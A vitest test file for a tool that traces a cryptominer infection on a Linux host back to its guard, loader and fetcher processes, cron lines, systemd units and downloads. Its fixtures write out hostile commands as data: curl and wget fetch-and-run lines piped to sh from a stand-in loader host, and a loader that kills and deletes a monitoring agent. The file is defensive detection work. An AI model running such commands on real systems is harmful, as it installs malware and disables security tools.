import { describe, expect, it } from 'vitest';
import {
  cleanSnapshot,
  crontab,
  elf,
  file,
  hashOf,
  infectedSnapshot,
  LOADER,
  labContext,
  POOL,
  pidsOf,
  process,
  socket,
} from '../../../test/shared/snapshots.ts';
import type { Process, Snapshot } from '../../snapshot.ts';
import type { LinkedProcess } from '../index.ts';
import { judge } from '../index.ts';

const pid = pidsOf();
const linksOf = (snapshot: Snapshot, context = labContext) => judge(snapshot, context).links;
const byPid = (links: { processes: readonly LinkedProcess[] }, wanted: number) =>
  links.processes.find((one) => one.pid === wanted);

/** A confirmed miner at a path, with whatever else. */
function mined(path: string, more: Partial<Snapshot> = {}, miner: Partial<Process> = {}): Snapshot {
  const clean = cleanSnapshot();
  return cleanSnapshot({
    ...more,
    processes: [...clean.processes, process({ pid: 900, exe: path, ...miner }), ...(more.processes ?? [])],
    sockets: [...clean.sockets, socket([900], POOL, 3333), ...(more.sockets ?? [])],
    files: [elf(path, 'mining.subscribe mining.authorize'), ...(more.files ?? [])],
  });
}

describe('links of the procedure’s infection', () => {
  for (const minerParent of ['guard', 'init'] as const) {
    it(`reach guard, loader, fetcher, both spools and three files, miner’s parent being ${minerParent}`, () => {
      const links = linksOf(infectedSnapshot({ minerParent }));
      expect(links.processes.map((p) => p.pid)).toEqual([pid.miner, pid.guard, pid.loader, pid.fetcher]);
      expect(links.files.map((f) => f.path)).toEqual(['/tmp/ddg.2021', '/tmp/i.sh', '/tmp/wnTKYg']);
      expect(links.cronLines.map((l) => `${l.path} ${l.number}`)).toEqual([
        '/var/spool/cron/crontabs/root 2',
        '/var/spool/cron/crontabs/root 3',
        '/var/spool/cron/root 2',
        '/var/spool/cron/root 3',
      ]);
      expect([...links.processes, ...links.files, ...links.cronLines].every((one) => one.selected)).toBe(
        true,
      );
    });
  }

  it('each begin at the confirmed miner and add a sentence a hop', () => {
    const links = linksOf(infectedSnapshot({ minerParent: 'init' }));
    for (const link of [...links.processes, ...links.files, ...links.cronLines, ...links.downloads]) {
      expect(link.why[0]).toMatch(/^wnTKYg \(pid 1000, \/tmp\/wnTKYg\) is a confirmed miner: /);
      expect(link.why.every((sentence) => sentence.endsWith('.'))).toBe(true);
    }
    expect(byPid(links, pid.fetcher)?.role).toBe('fetcher');
    expect(byPid(links, pid.loader)?.role).toBe('loader');
  });
});

describe('parents', () => {
  it('that start others for a living are never linked', () => {
    for (const exe of [
      '/usr/sbin/cron',
      '/usr/sbin/sshd',
      '/usr/lib/systemd/systemd',
      '/usr/bin/containerd-shim',
    ]) {
      const snapshot = mined('/opt/m/miner', { processes: [process({ pid: 899, exe })] }, { ppid: 899 });
      expect(byPid(linksOf(snapshot), 899)).toBeUndefined();
    }
  });

  it('that are a person’s shell or a packaged service are not linked', () => {
    const shell = process({ pid: 899, exe: '/usr/bin/bash', argv: ['-bash'], stdin: '/dev/pts/0' });
    const service = process({ pid: 899, exe: '/usr/sbin/nginx' });
    for (const parent of [shell, service]) {
      expect(byPid(linksOf(mined('/tmp/m', { processes: [parent] }, { ppid: 899 })), 899)).toBeUndefined();
    }
  });

  it('that bear no mark of their own are offered unticked and lead nowhere', () => {
    const parent = process({ pid: 899, exe: '/opt/tomcat/server' });
    const sibling = process({ pid: 901, ppid: 899, exe: '/opt/tomcat/job' });
    const links = linksOf(mined('/tmp/m', { processes: [parent, sibling] }, { ppid: 899 }));
    expect(byPid(links, 899)).toMatchObject({ selected: false, role: 'parent' });
    expect(byPid(links, 901)).toBeUndefined();
  });

  it('that serve nobody else are guards, in whatever folder; services are offered unticked', () => {
    const roleOf = (more: Partial<Process>, sockets: Snapshot['sockets'] = []) => {
      const parent = process({ pid: 899, exe: '/usr/local/games/upd', image: { package: null }, ...more });
      return byPid(linksOf(mined('/var/lib/nfsd/k', { processes: [parent], sockets }, { ppid: 899 })), 899);
    };
    expect(roleOf({})).toMatchObject({ selected: true, role: 'guard' });
    expect(roleOf({ cgroup: '/system.slice/runner.service' })).toMatchObject({ selected: false });
    const listening = socket([899], '0.0.0.0', 0, {
      state: 'LISTEN',
      local: { address: '0.0.0.0', port: 8080 },
    });
    expect(roleOf({}, [listening])).toMatchObject({ selected: false });
  });

  it('that read a pipe are loaders within a command, and somebody’s session under sshd', () => {
    const piped = (ppid: number) =>
      process({ pid: 899, ppid, exe: '/usr/bin/dash', argv: ['sh'], stdin: 'pipe:[9]', pipes: ['9'] });
    const command = process({ pid: 898, exe: '/usr/bin/dash', argv: ['sh', '-c', 'zcat /srv/x | sh'] });
    const session = process({ pid: 898, exe: '/usr/sbin/sshd', argv: ['sshd: root@notty'] });
    const of = (parent: Process) =>
      byPid(linksOf(mined('/opt/m/miner', { processes: [parent, piped(898)] }, { ppid: 899 })), 899);
    expect(of(command)).toMatchObject({ selected: true, role: 'loader' });
    expect(of(session)).toMatchObject({ selected: false, role: 'parent' });
  });

  it('that run a command which starts the miner are linked through it', () => {
    const inline = process({
      pid: 899,
      exe: '/usr/bin/dash',
      argv: ['sh', '-c', 'nohup /opt/m/miner >/dev/null 2>&1'],
    });
    expect(byPid(linksOf(mined('/opt/m/miner', { processes: [inline] }, { ppid: 899 })), 899)?.selected).toBe(
      true,
    );
  });
});

describe('children and pipes', () => {
  it('descendants of a linked process are linked', () => {
    const child = process({ pid: 901, ppid: 900, exe: '/usr/bin/sleep' });
    const grandchild = process({ pid: 902, ppid: 901, exe: '/usr/bin/sleep' });
    const links = linksOf(mined('/tmp/m', { processes: [child, grandchild] }));
    expect(links.processes.map((p) => p.pid)).toEqual([900, 901, 902]);
  });

  it('a shell that reads the pipe of a linked fetcher is linked as reader', () => {
    const snapshot = infectedSnapshot();
    const processes = snapshot.processes.map((p) => (p.pid === pid.fetcher ? { ...p, pipes: ['77'] } : p));
    const reader = process({
      pid: 1500,
      exe: '/usr/bin/dash',
      argv: ['sh'],
      stdin: 'pipe:[77]',
      pipes: ['77'],
    });
    expect(byPid(linksOf({ ...snapshot, processes: [...processes, reader] }), 1500)?.role).toBe('reader');
  });

  it('a standard input that both inherited links nothing', () => {
    const bystander = process({ pid: 901, exe: '/opt/app/x', stdin: 'pipe:[5]', pipes: ['5'] });
    const links = linksOf(mined('/tmp/m', { processes: [bystander] }, { stdin: 'pipe:[5]', pipes: ['5'] }));
    expect(byPid(links, 901)).toBeUndefined();
  });
});

describe('images', () => {
  it('the same file under another pid, and a copy elsewhere, are linked', () => {
    const again = process({ pid: 901, exe: '/tmp/m' });
    const copy = process({ pid: 902, exe: '/var/lib/x/m2', image: { sha256: hashOf('image /tmp/m') } });
    const links = linksOf(mined('/tmp/m', { processes: [again, copy] }));
    expect(links.processes.map((p) => p.pid)).toEqual([900, 901, 902]);
  });

  it('a hash that a packaged interpreter shares links nothing', () => {
    const sha256 = hashOf('image /usr/bin/bash');
    const shell = process({ pid: 901, exe: '/usr/bin/bash', argv: ['-bash'] });
    const other = process({ pid: 902, exe: '/opt/app/tool', image: { sha256 } });
    const snapshot = mined(
      '/tmp/m',
      { processes: [shell, other] },
      { image: process({ pid: 900, exe: '/tmp/m' }).image },
    );
    const copied = snapshot.processes.map((p) =>
      p.pid === 900 && p.image !== null ? { ...p, image: { ...p.image, sha256 } } : p,
    );
    expect(linksOf({ ...snapshot, processes: copied }).processes.map((p) => p.pid)).toEqual([900]);
  });

  it('lying in the same folder is no link', () => {
    const neighbour = process({ pid: 901, exe: '/tmp/x/other' });
    const links = linksOf(mined('/tmp/x/m', { processes: [neighbour], files: [elf('/tmp/x/other')] }));
    expect(links.processes.map((p) => p.pid)).toEqual([900]);
    expect(links.files.map((f) => f.path)).toEqual(['/tmp/x/m']);
  });
});

describe('names', () => {
  it('a cron line that runs the miner is linked; one that only names it is offered unticked', () => {
    const cronFiles = [
      crontab('/var/spool/cron/crontabs/root', [
        '@reboot /opt/m/miner -q',
        '* * * * * test -x /opt/m/miner && logger found',
      ]),
    ];
    const links = linksOf(mined('/opt/m/miner', { cronFiles }));
    expect(links.cronLines).toMatchObject([
      { number: 1, selected: true },
      { number: 2, selected: false },
    ]);
  });

  it('a tool that names the miner is offered unticked, a script in /tmp that does is linked', () => {
    const files = [
      file('/opt/edr/rules.sh', '#!/bin/sh\nrm -f /opt/m/miner\n'),
      file('/tmp/.k/start', '#!/bin/sh\n/opt/m/miner &\n'),
    ];
    const links = linksOf(mined('/opt/m/miner', { files }));
    expect(links.files.map((f) => [f.path, f.selected])).toEqual([
      ['/opt/edr/rules.sh', false],
      ['/opt/m/miner', true],
      ['/tmp/.k/start', true],
    ]);
  });

  it('what a loader attacks is not linked by being named', () => {
    const agent = process({ pid: 901, exe: '/opt/cloudmonitor/agent' });
    const loader = file(
      '/tmp/i.sh',
      `#!/bin/sh\npkill -f /opt/cloudmonitor/agent\nrm -rf /opt/cloudmonitor/agent\ncurl http://${LOADER}:8443/a | sh\n/tmp/m\n`,
    );
    const links = linksOf(
      mined('/tmp/m', { processes: [agent], files: [loader, elf('/opt/cloudmonitor/agent')] }),
    );
    expect(byPid(links, 901)).toBeUndefined();
    expect(links.files.find((f) => f.path === '/opt/cloudmonitor/agent')?.selected).toBe(false);
  });

  it('a crontab that a loader writes to is no file to delete', () => {
    const links = linksOf({
      ...infectedSnapshot(),
      files: [...infectedSnapshot().files, file('/var/spool/cron/root', '* * * * * x\n')],
    });
    expect(links.files.some((f) => f.path === '/var/spool/cron/root')).toBe(false);
  });

  it('a unit that starts the miner is seen', () => {
    const unit = {
      kind: 'systemd-unit' as const,
      path: '/etc/systemd/system/m.service',
      identity: elf('/x').identity,
      text: '[Service]\nExecStart=/opt/m/miner -q\n',
      truncated: false,
    };
    expect(linksOf(mined('/opt/m/miner', { persistence: [unit] })).persistence.map((p) => p.path)).toEqual([
      unit.path,
    ]);
  });
});

describe('downloads', () => {
  const line = (command: string) => [
    crontab('/var/spool/cron/crontabs/www-data', [`*/7 * * * * ${command}`]),
  ];
  const loader = file('/tmp/i.sh', `#!/bin/sh\ncurl http://${LOADER}:8443/a | sh\n/opt/m/miner &\n`);

  it('a fetch-and-run line of the same scheme, host and port is linked, whatever it is called there', () => {
    const links = linksOf(
      mined('/opt/m/miner', {
        files: [loader],
        cronFiles: line(`wget -qO- http://${LOADER}:8443/zz | bash`),
      }),
    );
    expect(links.cronLines).toMatchObject([{ selected: true }]);
  });

  it('another port, another scheme, or a fetch that runs nothing is not', () => {
    for (const command of [
      `wget -qO- http://${LOADER}/zz | bash`,
      `wget -qO- https://${LOADER}:8443/zz | bash`,
    ]) {
      expect(
        linksOf(mined('/opt/m/miner', { files: [loader], cronFiles: line(command) })).cronLines,
      ).toMatchObject([{ selected: false }]);
    }
    expect(
      linksOf(
        mined('/opt/m/miner', {
          files: [loader],
          cronFiles: line(`curl -fsS http://${LOADER}:8443/ping >/dev/null`),
        }),
      ).cronLines,
    ).toEqual([]);
  });

  it('hosting that many share links by the whole address only', () => {
    const script = file('/tmp/i.sh', '#!/bin/sh\ncurl https://pastebin.com/raw/abc | sh\n/opt/m/miner &\n');
    const of = (path: string) =>
      linksOf(
        mined('/opt/m/miner', {
          files: [script],
          cronFiles: line(`curl https://pastebin.com/raw/${path} | sh`),
        }),
      );
    expect(of('abc').cronLines).toMatchObject([{ selected: true }]);
    expect(of('other').cronLines).toMatchObject([{ selected: false }]);
  });

  it('the shell that cron started from a linked line is linked, with its children', () => {
    const command = `curl -fsSL http://${LOADER}:8443/i.sh | sh`;
    const processes = [
      process({ pid: 950, ppid: 300, exe: '/usr/bin/dash', argv: ['/bin/sh', '-c', command] }),
      process({
        pid: 951,
        ppid: 950,
        exe: '/usr/bin/curl',
        argv: ['curl', '-fsSL', `http://${LOADER}:8443/i.sh`],
      }),
    ];
    const snapshot = infectedSnapshot();
    const links = linksOf({ ...snapshot, processes: [...snapshot.processes, ...processes] });
    expect(byPid(links, 950)?.role).toBe('loader');
    expect(byPid(links, 951)?.selected).toBe(true);
  });

  it('a fetch-and-run line that nothing links is offered unticked, with the reason', () => {
    const links = linksOf(
      mined('/opt/m/miner', { cronFiles: line('curl -fsSL https://get.example/x | sh') }),
    );
    expect(links.cronLines).toMatchObject([{ selected: false }]);
    expect(links.cronLines[0]?.why.join(' ')).toContain('nothing links it');
  });
});

describe('known indicators', () => {
  it('link files by hash and unpackaged processes by address', () => {
    const guard = process({ pid: 901, exe: '/opt/g/guard' });
    const agent = process({ pid: 902, exe: '/usr/bin/curl', argv: ['curl', 'https://192.0.2.1/'] });
    const snapshot = mined('/opt/m/miner', {
      processes: [guard, agent],
      sockets: [socket([901], '203.0.113.50', 8443), socket([902], '192.0.2.1', 443)],
      files: [elf('/srv/drop')],
    });
    const hashes = { [hashOf('image /srv/drop')]: 'guard' };
    const addresses = [{ address: '203.0.113.50', port: 8443, what: 'ddg' }];
    const links = linksOf(snapshot, {
      ...labContext,
      indicators: { ...labContext.indicators, hashes, addresses },
    });
    expect(byPid(links, 901)?.why.at(-1)).toContain('known as ddg');
    expect(byPid(links, 902)).toBeUndefined();
    expect(links.files.map((f) => f.path)).toContain('/srv/drop');
  });
});
